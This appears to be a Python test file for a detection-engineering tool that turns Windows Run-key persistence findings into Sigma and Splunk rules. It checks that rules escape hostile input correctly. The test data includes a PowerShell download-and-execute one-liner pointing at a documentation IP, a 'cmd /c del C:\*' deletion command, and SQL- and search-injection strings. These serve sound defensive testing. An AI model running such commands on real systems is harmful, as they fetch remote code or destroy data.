"""One exact rule a finding: it survives whatever an attacker can write, and fits every host and user."""

from __future__ import annotations

import pytest
import yaml
from sigma.collection import SigmaCollection

from runkeyhunt.report.gathering.findings import Finding
from runkeyhunt.report.gathering.pattern import Pattern, pattern_of
from runkeyhunt.report.recommending.rule import exact_rule
from runkeyhunt.report.recommending.sigma import sigma_text
from runkeyhunt.report.recommending.spl import spl_text
from tests.report.conftest import gathered, sighting
from tests.report.rule_runner import Log

RUN = "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
USER_RUN = f"HKU\\S-1-5-21-1-2-3-1001{RUN}"
HOSTILE = {
    "blanks": "  C:\\a b\\c.exe  -x ",
    "quotes": '"C:\\a.exe" \'x\' \\"y\\"',
    "asterisk": "cmd /c del C:\\*",
    "question mark": "C:\\a?.exe",
    "backslash before wildcards": "\\*\\\\*\\?\\\\?",
    "trailing backslash": "C:\\folder\\",
    "two trailing backslashes": "C:\\folder\\\\",
    "share": "\\\\host\\share\\a.exe",
    "per cent and underscore": "%TEMP%\\a_b%.exe",
    "doubled per cent": "%%TEMP%%\\a.exe",
    "line feed": "a\nb.exe",
    "carriage return": "a\r\nb.exe",
    "tab": "a\tb.exe",
    "bidi": "C:\\\u202egnp.exe",
    "not ASCII": "C:\\Пользователь\\é日.exe",
    "beyond the first plane": "C:\\\U0001f600\U000e0041.exe",
    "backtick": "a `runkeyhunt_index` b",
    "pipe and brackets": "a | delete [search *] $x$",
    "entities": "a && b > c < d",
    "YAML": "- a: {b: [c]} # d\n---\n&e *f !g %h @i",
    "null word": "null",
    "number": "0x10",
    "apostrophe": "' OR 1=1 --",
    "long": "x" * 12_612,
    "long and hostile": ("\\*?\"'`%_ é" * 1_300)[:12_612],
}
# What no tool stores as it was: the rule is made from the rest.
CUT = {
    "NUL": ("C:\\a.exe\0 hidden", ["C:\\a.exe", "C:\\a.exe\ufffd hidden"]),
    "lone surrogate": ("C:\\\ud800.exe", ["C:\\?.exe", "C:\\\ufffd.exe", "C:\\.exe"]),
    "replacement": ("C:\\\ufffd.exe", ["C:\\x.exe"]),
}


def only(*sightings) -> Finding:
    (finding,) = gathered(*sightings).ranked()
    return finding


def rule_texts(finding: Finding) -> tuple[str, str]:
    rule = exact_rule(finding)
    return sigma_text(rule), spl_text(rule)


def write(target: str = f"{USER_RUN}\\Updater", details: str | None = "C:\\x.exe", code: int = 13) -> dict[str, object]:
    return {"EventCode": str(code), "TargetObject": target, "Details": details}


@pytest.mark.parametrize("details", HOSTILE.values(), ids=HOSTILE)
def test_data_survives(details: str):
    sigma, spl = rule_texts(only(sighting(details=details)))
    others = [
        write(details=details + "x"),
        write(details="x" + details),
        write(f"{USER_RUN}\\Other", details),
        write(details=None),
    ]
    log = Log([write(details=details), *others])
    assert log.hits(sigma) == [0]
    assert log.found(spl) == [0]


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
def test_value_name_survives(name: str):
    sigma, spl = rule_texts(only(sighting(name)))
    log = Log([write(f"{USER_RUN}\\{name}"), write(f"{USER_RUN}\\{name}x"), write(f"{USER_RUN}\\")])
    assert log.hits(sigma) == [0]
    assert log.found(spl) == [0]


@pytest.mark.parametrize(("details", "stored"), CUT.values(), ids=CUT)
def test_what_no_tool_keeps_is_left_open(details: str, stored: list[str]):
    sigma, spl = rule_texts(only(sighting(details=details)))
    log = Log([*(write(details=text) for text in stored), write(details="D:\\a.exe")])
    assert log.hits(sigma) == list(range(len(stored)))
    assert log.found(spl) == list(range(len(stored)))


@pytest.mark.parametrize("text", [*HOSTILE.values(), *(text for text, _ in CUT.values())], ids=[*HOSTILE, *CUT])
def test_yaml_and_spl_are_text_that_hides_nothing(text: str):
    sigma, spl = rule_texts(only(sighting(text, text)))
    assert yaml.safe_load(sigma)["level"] == "critical"
    assert all(character.isprintable() or character == "\n" for character in sigma + spl)
    assert spl.isascii()
    assert spl.count("`") == 2
    assert spl.count("\n") == 2


def test_document():
    finding = only(sighting("Up*", "C:\\Users\\jane\\a.exe", rk_entry="Run|up*|c:\\users\\<user>\\a.exe"))
    assert yaml.safe_load(rule_texts(finding)[0]) == {
        "title": 'Autostart Entry "Up*" In Run',
        "id": "46908d87-30b5-5ebd-b399-f8bd536aaac5",
        "status": "experimental",
        "description": "One autostart entry that scored 80: +80 Made for a test.",
        "author": "Run Key Hunt",
        "tags": ["attack.persistence", "attack.t1547.001"],
        "logsource": {"category": "registry_set", "product": "windows"},
        "detection": {
            "selection": {
                "TargetObject|endswith": f"{RUN}\\Up\\*",
                "Details": "C:\\Users\\\\*\\a.exe",
            },
            "condition": "selection",
        },
        "falsepositives": ["The same entry, where it is wanted"],
        "level": "critical",
    }


def test_search():
    assert rule_texts(only(sighting('Up"', "C:\\a.exe")))[1] == (
        "`runkeyhunt_events`\n"
        '| where EventCode=13 AND match(TargetObject, "(?is)\\\\\\\\Software\\\\\\\\Microsoft\\\\\\\\Windows'
        '\\\\\\\\CurrentVersion\\\\\\\\Run\\\\\\\\Up\\"\\\\z") AND lower(Details)=lower("C:\\\\a.exe")\n'
        "| table _time, host, EventCode, User, Image, TargetObject, Details, TargetFilename, NewName"
    )


def test_id_stays_whatever_host_user_or_time():
    here = sighting(rk_entry="Run|a|b")
    there = sighting(
        rk_entry="Run|a|b",
        Computer="WS-2",
        UtcTime="2027-01-01 00:00:00.000",
        TargetObject=f"HKU\\S-1-5-21-9{RUN}\\Updater",
        score=60,
    )
    assert exact_rule(only(here)).id == exact_rule(only(there)).id == "a4a5d044-7a40-5a2c-bd3c-15074d86edee"
    assert exact_rule(only(sighting(rk_entry="Run|a|c"))).id != exact_rule(only(here)).id


def test_rule_fits_other_users_and_versions():
    details = "C:\\Users\\jane\\AppData\\Local\\Acme\\1.2.3\\acme.exe"
    sigma, spl = rule_texts(only(sighting(details=details)))
    other = details.replace("jane", "bob").replace("1.2.3", "2.0.0")
    log = Log([write(f"HKU\\S-1-5-21-9-9-9-500{RUN}\\updater", other), write(details=details.replace("Acme", "Evil"))])
    assert (log.hits(sigma), log.found(spl)) == ([0], [0])


@pytest.mark.parametrize(
    ("target", "fits", "does_not"),
    [
        (f"HKLM\\SOFTWARE{RUN[9:]}\\A", f"HKLM\\Software{RUN[9:]}\\a", f"{USER_RUN}\\A"),
        (f"\\REGISTRY\\MACHINE{RUN}\\A", f"HKLM{RUN}\\A", f"HKLM{RUN}\\B"),
        (f"\\REGISTRY\\USER\\S-1-5-21-1{RUN}\\A", f"{USER_RUN}\\A", f"{USER_RUN}Once\\A"),
    ],
    ids=["HKLM alone", "kernel's HKLM", "kernel's HKU"],
)
def test_hives(target: str, fits: str, does_not: str):
    sigma, spl = rule_texts(only(sighting(TargetObject=target)))
    log = Log([write(target), write(fits), write(does_not)])
    assert (log.hits(sigma), log.found(spl)) == ([0, 1], [0, 1])


@pytest.mark.parametrize(
    ("fields", "category", "selection"),
    [
        (
            {"EventCode": "12", "EventType": "DeleteValue"},
            "registry_delete",
            {"TargetObject|endswith": f"{RUN}\\Updater"},
        ),
        ({"EventCode": "12", "EventType": "CreateKey"}, "registry_add", {"TargetObject|endswith": f"{RUN}\\Updater"}),
        ({"EventCode": "14", "NewName": f"{USER_RUN}\\New"}, "registry_rename", {"NewName|endswith": f"{RUN}\\New"}),
        (
            {"EventCode": "11", "TargetObject": "", "TargetFilename": "C:\\Users\\jane\\Startup\\a.lnk", "Details": ""},
            "file_event",
            {"TargetFilename": "C:\\Users\\\\*\\Startup\\a.lnk"},
        ),
    ],
    ids=["deleted", "created", "renamed", "file"],
)
def test_other_events(fields: dict[str, str], category: str, selection: dict[str, str]):
    document = yaml.safe_load(rule_texts(only(sighting(**fields)))[0])
    assert document["logsource"]["category"] == category
    assert document["detection"]["selection"] == selection


def test_every_spelling_of_an_entry_is_in_its_rule():
    entry = {"rk_entry": "Run|updater|c:\\x.exe"}
    sigma, spl = rule_texts(only(sighting(details='"C:\\x.exe"', **entry), sighting(details="C:\\x.exe", **entry)))
    log = Log([write(details='"C:\\x.exe"'), write(details="C:\\x.exe"), write(details="C:\\y.exe")])
    assert (log.hits(sigma), log.found(spl)) == ([0, 1], [0, 1])


def test_without_the_event_the_payload_s_name_is_asked_for():
    fields = dict.fromkeys(("EventCode", "TargetObject", "Details", "Image"), "")
    finding = only(sighting(**fields, rk_payload="C:\\Users\\<user>\\a*.exe", rk_key=f"HKLM{RUN}"))
    assert yaml.safe_load(rule_texts(finding)[0])["detection"]["selection"] == {
        "TargetObject": f"HKLM{RUN}\\Updater",
        "Details|contains": "a\\*.exe",
    }


def test_title_is_short_and_plain():
    rule = exact_rule(only(sighting('a`"\u202e\n' + "b" * 100)))
    assert rule.title == f'Autostart Entry "a????{"b" * 55}…" In Run'
    assert SigmaCollection.from_yaml(sigma_text(rule)).rules[0].title == rule.title


def test_letters_that_fold_like_others_or_grow_shift_nothing():
    assert pattern_of("\u212aA S-1-5-21-1-2-3-4 \u0130B 10.2.3.4 C") == Pattern(("\u212aA ", " \u0130B ", " C"))


def test_a_finding_without_its_event_is_told_by_its_data_not_by_a_payload_s_name():
    fields = dict.fromkeys(("EventCode", "TargetObject", "Details", "Image"), "")
    data = "powershell -c irm http://203.0.113.9/s | iex"
    finding = only(
        sighting(**fields, rk_key=f"HKLM{RUN}", rk_action="set", rk_data=data, rk_payload="http://203.0.113.9/s")
    )
    assert yaml.safe_load(rule_texts(finding)[0])["detection"]["selection"] == {
        "TargetObject": f"HKLM{RUN}\\Updater",
        "Details": data,
    }
